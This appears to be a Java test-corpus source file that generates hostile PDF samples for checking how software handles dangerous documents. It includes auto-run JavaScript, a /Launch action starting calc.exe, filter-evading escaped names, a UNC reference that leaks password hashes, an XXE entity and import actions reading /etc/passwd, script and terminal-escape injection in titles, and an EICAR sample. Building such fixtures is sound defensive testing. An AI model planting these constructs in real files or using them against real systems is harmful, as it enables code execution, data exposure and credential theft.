package org.junitsandbox.corpus;

import static org.junitsandbox.corpus.Attack.ACTIVE_CONTENT;
import static org.junitsandbox.corpus.Attack.DETECTION;
import static org.junitsandbox.corpus.Attack.ENCRYPTED;
import static org.junitsandbox.corpus.Attack.EXTERNAL_REFERENCE;
import static org.junitsandbox.corpus.Attack.INJECTION;

import java.util.stream.Stream;

/** PDF documents with actions, references and passengers. */
final class PdfFiles {

    static final Family PDF =
            Family.of(Format.PDF, Content.of(() -> PdfDocument.page("", "").end()));

    private static final String ISO = "ISO 32000-1 section ";
    private static final String SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

    private PdfFiles() {}

    static Stream<HostileFile> files() {
        return Stream.of(actions(), references(), passengers()).flatMap(all -> all);
    }

    private static HostileFile of(
            Attack attack, String variant, String description, String reference, String catalog, String page) {
        return PDF.file(attack, variant, description, reference, Content.of(() -> PdfDocument.page(catalog, page)
                .end()));
    }

    private static HostileFile opening(
            Attack attack, String variant, String description, String reference, String action) {
        return of(attack, variant, description, reference, " /OpenAction " + action, "");
    }

    private static Stream<HostileFile> actions() {
        return Stream.of(
                opening(
                        ACTIVE_CONTENT,
                        "launch",
                        "Opening the document starts a program.",
                        "CVE-2010-1240, " + ISO + "12.6.4.5",
                        "<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>"),
                opening(
                        ACTIVE_CONTENT,
                        "script",
                        "Opening the document runs a script.",
                        ISO + "12.6.4.16",
                        SCRIPT),
                opening(
                        ACTIVE_CONTENT,
                        "script-hidden-name",
                        "Opening the document runs a script; its names have escapes, so that no filter finds them.",
                        ISO + "7.3.5",
                        "<< /#53 /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
                of(
                        ACTIVE_CONTENT,
                        "script-name-tree",
                        "A script is in the tree of names, and runs when the document is opened.",
                        ISO + "7.7.4",
                        " /Names << /JavaScript << /Names [(a) " + SCRIPT + "] >> >>",
                        ""),
                of(
                        ACTIVE_CONTENT,
                        "page-action",
                        "A page runs a script when it is shown.",
                        ISO + "12.6.3",
                        "",
                        " /AA << /O " + SCRIPT + " >>"),
                of(
                        ACTIVE_CONTENT,
                        "annotation",
                        "An annotation runs a script when the pointer enters it.",
                        ISO + "12.6.3",
                        "",
                        " /Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /AA << /E " + SCRIPT
                                + " >> >>]"),
                opening(
                        ACTIVE_CONTENT,
                        "chain",
                        "A harmless action has a second one behind it, which runs a script.",
                        ISO + "12.6.2",
                        "<< /S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT + " >>"),
                PDF.file(
                        ACTIVE_CONTENT,
                        "embedded-program",
                        "A program is embedded, for the user to open.",
                        ISO + "7.11.4",
                        Content.of(() -> embedding("setup.exe", "MZ" + Samples.TEXT))));
    }

    private static byte[] embedding(String name, String content) {
        return PdfDocument.page(" /Names << /EmbeddedFiles << /Names [(" + name + ") 5 0 R] >> >>", "")
                .object(5, "<< /Type /Filespec /F (" + name + ") /EF << /F 6 0 R >> >>")
                .stream(6, " /Type /EmbeddedFile", Bytes.utf8(content))
                .end();
    }

    private static Stream<HostileFile> references() {
        return Stream.of(
                opening(
                        EXTERNAL_REFERENCE,
                        "uri",
                        "Opening the document opens an address in the network.",
                        "CWE-918, " + ISO + "12.6.4.7",
                        "<< /S /URI /URI (http://example.invalid/x) >>"),
                opening(
                        EXTERNAL_REFERENCE,
                        "other-document",
                        "Opening the document opens another one on a server, which gets the user's password hash.",
                        "CVE-2018-4993, " + ISO + "12.6.4.3",
                        "<< /S /GoToR /F (\\\\\\\\example.invalid\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
                opening(
                        EXTERNAL_REFERENCE,
                        "submit",
                        "Opening the document sends its form to an address in the network.",
                        ISO + "12.7.5.2",
                        "<< /S /SubmitForm /F << /FS /URL /F (http://example.invalid/x) >> >>"),
                opening(
                        EXTERNAL_REFERENCE,
                        "import",
                        "Opening the document imports data from a file.",
                        ISO + "12.7.5.4",
                        "<< /S /ImportData /F (/etc/passwd) >>"),
                PDF.file(
                        EXTERNAL_REFERENCE,
                        "stream-file",
                        "The page's content is the file /etc/passwd.",
                        ISO + "7.3.8.2",
                        Content.of(() -> PdfDocument.page("", "")
                                .stream(4, " /F (/etc/passwd)", new byte[0])
                                .end())),
                PDF.file(
                        EXTERNAL_REFERENCE,
                        "form-entity",
                        "A form in XML has an entity, which is the file /etc/passwd.",
                        "CVE-2017-9096, " + ISO + "12.7.8",
                        Content.of(() -> PdfDocument.page(" /AcroForm << /XFA 5 0 R /Fields [] >>", "")
                                .stream(
                                        5,
                                        "",
                                        Bytes.utf8("<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
                                                + "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&x;</xdp:xdp>"))
                                .end())));
    }

    private static Stream<HostileFile> passengers() {
        return Stream.of(
                of(
                        INJECTION,
                        "script-link",
                        "A link is a script, which runs in a page that shows the document.",
                        "CWE-79, " + ISO + "12.6.4.7",
                        "",
                        " /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99]"
                                + " /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"),
                PDF.file(
                        INJECTION,
                        "title-markup",
                        "The title is the markup of a script.",
                        "CWE-79, " + ISO + "14.3.3",
                        Content.of(() -> titled("<script>alert\\(1\\)</script>"))),
                PDF.file(
                        INJECTION,
                        "title-escapes",
                        "The title has terminal escapes.",
                        "CWE-150, " + ISO + "14.3.3",
                        Content.of(() -> titled("\\033]0;owned\\007"))),
                PDF.file(
                        DETECTION,
                        "embedded",
                        "The EICAR test file is embedded.",
                        ISO + "7.11.4",
                        Content.of(() -> embedding("test.txt", Samples.eicar()))),
                PDF.file(
                        ENCRYPTED,
                        "password",
                        "The document needs a password to be opened.",
                        ISO + "7.6.3",
                        Content.of(PdfEncryption::document)));
    }

    private static byte[] titled(String title) {
        return PdfDocument.page("", "")
                .object(5, "<< /Title (" + title + ") >>")
                .end(" /Info 5 0 R");
    }
}
